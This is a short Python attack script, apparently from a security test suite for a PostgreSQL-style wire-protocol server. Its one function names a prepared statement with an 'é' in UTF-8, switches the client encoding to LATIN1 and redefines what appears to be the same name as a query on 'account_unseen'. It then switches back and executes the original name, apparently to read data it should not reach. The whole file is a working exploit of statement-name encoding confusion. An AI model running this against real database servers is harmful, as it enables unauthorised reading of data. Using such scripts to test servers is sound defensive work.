"""Replaces a statement by the same name in another encoding, and binds it by the first."""

from attacks.frames import SYNC, ask, bind, close, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = "\u00e9".encode("utf-8"), "\u00e9".encode("latin-1")
        ask(client, parse(b"SELECT name FROM customer", one), SYNC)
        ask(client, query(b"SET client_encoding = 'LATIN1'"))
        ask(client, close(b"S", other), parse(b"SELECT account_unseen(1)", other), SYNC)
        ask(client, query(b"SET client_encoding = 'UTF8'"))
        return ask(client, bind(one), execute(), SYNC)
